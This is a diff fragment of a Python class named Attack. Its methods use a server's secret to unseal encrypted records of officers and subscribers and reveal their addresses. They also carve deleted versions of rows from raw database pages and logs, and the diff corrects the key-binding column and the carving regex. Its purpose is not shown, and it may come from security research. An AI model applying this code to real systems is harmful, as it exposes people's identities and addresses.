@@ -122,15 +122,15 @@ class Attack:
     def open_people(self) -> None:
         """Officers and subscribers are sealed under the server's secret: whoever has it reads their addresses."""
         for secret in self.secrets:
-            for table, word in (("officers", b"officer"), ("subscriptions", b"subscription")):
+            for table, word, named_by in (("officers", b"officer", 0), ("subscriptions", b"subscription", 1)):
                 key = keyed(secret, word + b" records")
                 for row in rows(self.databases, table):
                     for sealed in {row[2], *self.carve_rows(row)}:
-                        self.add_person(unseal(key, sealed, word + row[0]))
+                        self.add_person(unseal(key, sealed, word + row[named_by]))
 
     def carve_rows(self, row: tuple[Any, ...]) -> list[bytes]:
         """Find the sealed column of former versions of a row, in gaps of pages, free pages and logs."""
-        form = b"(?s)%b.{%d}(.{%d})" % (re.escape(row[0]), len(row[1]), len(row[2]))
+        form = b"(?s)%b(.{%d})" % (re.escape(row[1]), len(row[2]))
         return re.findall(form, self.raw)
 
     def add_person(self, opened: bytes | None) -> None:
